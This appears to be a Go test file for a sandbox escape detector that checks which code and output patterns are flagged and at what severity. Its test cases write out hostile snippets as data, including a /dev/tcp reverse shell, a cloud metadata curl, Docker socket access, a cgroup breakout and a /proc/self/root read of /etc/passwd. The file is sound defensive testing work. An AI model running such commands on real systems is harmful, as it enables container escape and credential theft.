package monitor

import (
	"testing"

	"polyglot-sandbox/internal/policy"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		code         string
		wantPattern  string
		wantSeverity policy.Severity
	}{
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, "/proc/self/root", policy.SeverityHigh},
		{"cgroup breakout", `open("/sys/fs/cgroup/x")`, "/sys/fs/cgroup", policy.SeverityCritical},
		{"docker socket", `cat /var/run/docker.sock`, "/var/run/docker", policy.SeverityCritical},
		{"dirty_cow", `exploit = dirty_cow_payload()`, "dirty_cow", policy.SeverityCritical},
		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, "169.254.169.254", policy.SeverityHigh},
		{"reverse shell", `exec 5<>/dev/tcp/10.0.0.1/4444`, "/dev/tcp/", policy.SeverityCritical},
		{"capsh", `capsh --caps="cap_sys_admin+eip"`, "capsh", policy.SeverityHigh},
		{"ptrace", `libc.ptrace(16, pid, 0, 0)`, "ptrace", policy.SeverityCritical},
		{"symlink race", `ln -s /proc/1/root /tmp/escape`, "ln -s /proc", policy.SeverityHigh},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, "stratum+tcp", policy.SeverityMedium},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := d.AnalyzeCode(tt.code)
			for _, v := range got {
				if v.Pattern == tt.wantPattern {
					if v.Severity != tt.wantSeverity {
						t.Errorf("severity = %s, want %s", v.Severity, tt.wantSeverity)
					}
					if v.Line != 1 || v.Message == "" {
						t.Errorf("violation = %+v, want line 1 with message", v)
					}
					return
				}
			}
			t.Errorf("pattern %q not found in %+v", tt.wantPattern, got)
		})
	}
}

func TestAnalyzeCode_Clean(t *testing.T) {
	d := NewEscapeDetector()
	for _, code := range []string{
		`print("hello world")`,
		"const nc = 1;\nconsole.log(nc)",
		"for i in range(3):\n    print(i)",
	} {
		if got := d.AnalyzeCode(code); len(got) != 0 {
			t.Errorf("AnalyzeCode(%q) = %+v, want none", code, got)
		}
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		output       string
		wantCount    int
		wantSeverity policy.Severity
	}{
		{"root access", "root:x:0:0:root:/root:/bin/bash", 1, policy.SeverityCritical},
		{"docker socket", "found: /var/run/docker.sock", 1, policy.SeverityCritical},
		{"kernel banner", "Linux version 6.1.0", 1, policy.SeverityMedium},
		{"clean output", "hello world\n42\n", 0, 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := d.AnalyzeOutput(tt.output)
			if len(got) != tt.wantCount {
				t.Fatalf("got %d violations %+v, want %d", len(got), got, tt.wantCount)
			}
			if tt.wantCount > 0 && got[0].Severity != tt.wantSeverity {
				t.Errorf("severity = %s, want %s", got[0].Severity, tt.wantSeverity)
			}
		})
	}
}
